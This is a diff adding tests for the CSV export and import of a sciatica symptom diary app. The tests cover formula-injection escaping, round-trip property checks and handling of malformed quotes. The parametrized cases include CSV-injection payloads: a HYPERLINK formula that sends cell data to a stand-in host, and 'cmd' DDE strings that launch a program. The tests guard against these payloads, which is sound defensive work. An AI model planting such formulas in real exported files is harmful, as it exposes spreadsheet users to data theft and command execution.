@@ -1,9 +1,18 @@
+import csv
+import io
 from datetime import date
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
-from sciatica.diary.models import TriageLevel
-from sciatica.documents.csv_io import CSV_COLUMNS, check_ins_csv, parse_check_in_csv
+from sciatica.diary.models import SBI_FIELDS, CheckInInput, LegExtent, Side, TriageLevel
+from sciatica.documents.csv_io import (
+    CSV_COLUMNS,
+    FORMULA_STARTS,
+    check_ins_csv,
+    parse_check_in_csv,
+)
 from sciatica.documents.export import ImportRejected, apply_import, preview_import
 from sciatica.storage.store import Store
 from tests import factories
@@ -74,3 +83,89 @@ def test_keep_existing_days_leaves_them_untouched(store: Store, today: date) -> 
     assert [e.leg_pain for e in store.all_check_ins(user_id="local")] == [5, 1]
     apply_import(store, user_id="local", plan=plan, replace_existing=True)
     assert [e.leg_pain for e in store.all_check_ins(user_id="local")] == [5, 9]
+
+
+def cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        '=HYPERLINK("http://example.test/?d="&A1,"Click for your results")',
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+    ],
+)
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
+    hostile: str, today: date
+) -> None:
+    text = check_ins_csv([make_check_in(notes=hostile, medication=hostile)])
+    written = cells(text)
+    assert not [cell for cell in written if cell.startswith(FORMULA_STARTS)]
+    assert written.count(f"'{hostile}") == 2
+    (entry,) = parse_check_in_csv(text.encode(), today=today).check_ins
+    assert (entry.notes, entry.medication) == (hostile, hostile)
+
+
+# Text as the check-in form keeps it, often starting the way formulas and their escapes do.
+leads = st.sampled_from(["", "=", "+", "-", "@", "'", "''", "'=", "'+1", "\t", "\r=", " -"])
+text = st.builds(
+    lambda lead, rest: (lead + rest).replace("\r", "\n").strip(),
+    leads,
+    st.text(st.characters(exclude_categories=("Cs", "Cc"), include_characters="\n"), max_size=40),
+)
+
+
+def _check_in(*, sbi: tuple[int, ...] | None, **fields: object) -> CheckInInput:
+    scores = dict(zip(SBI_FIELDS, sbi, strict=True)) if sbi else {}
+    return CheckInInput.model_validate({**fields, **scores})
+
+
+def check_ins() -> st.SearchStrategy[CheckInInput]:
+    """Valid check-ins up to today; deferred below, so today is read by the test clock."""
+    return st.builds(
+        _check_in,
+        sbi=st.none() | st.tuples(*[st.integers(0, 6)] * len(SBI_FIELDS)),
+        day=st.dates(min_value=date(2000, 1, 1), max_value=factories.today()),
+        leg_pain=st.integers(0, 10),
+        back_pain=st.integers(0, 10),
+        extent=st.sampled_from(LegExtent),
+        side=st.none() | st.sampled_from(Side),
+        activity_minutes=st.integers(0, 1440),
+        medication=text,
+        notes=text,
+        red_flags=st.frozensets(st.sampled_from(["night_pain", "bowel", "saddle"])),
+    )
+
+
+@settings(max_examples=200, deadline=None)
+@given(entries=st.lists(st.deferred(check_ins), max_size=5, unique_by=lambda entry: entry.day))
+def test_the_csv_download_reads_back_to_the_same_check_ins(entries: list[CheckInInput]) -> None:
+    text = check_ins_csv(entries)
+    assert not [cell for cell in cells(text) if cell.startswith(FORMULA_STARTS)]
+    plan = parse_check_in_csv(text.encode(), today=factories.today())
+    assert plan.check_ins == sorted(entries, key=lambda entry: entry.day)
+
+
+def test_a_quote_that_is_never_closed_is_refused_instead_of_swallowing_the_rows_after_it(
+    today: date,
+) -> None:
+    raw = (
+        "day,leg_pain,back_pain,notes\n"
+        f"{days_ago(3)},4,2,fine\n"
+        f'{days_ago(2)},5,3,"she said ""ouch\n'
+        f"{days_ago(1)},6,1,rested\n"
+        f"{today},2,2,better\n"
+    ).encode()
+    assert rejected(raw) == [
+        "The file is not valid CSV: a quoted cell starting on line 3 is never closed, "
+        "so the rows after it cannot be read."
+    ]
+
+
+def test_a_quoted_cell_over_several_lines_is_still_one_note(today: date) -> None:
+    raw = f'day,leg_pain,back_pain,notes\n{today},4,2,"walked\nthen rested"\n'.encode()
+    (entry,) = parse_check_in_csv(raw, today=today).check_ins
+    assert entry.notes == "walked\nthen rested"
